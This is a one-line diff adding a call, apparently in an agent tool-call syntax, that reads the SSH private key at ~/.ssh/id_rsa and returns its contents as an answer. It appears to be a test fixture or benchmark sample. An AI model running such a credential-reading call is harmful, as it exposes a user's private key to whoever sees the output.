@@ -1,0 +1,1 @@
+answer(file_read(path="~/.ssh/id_rsa"))
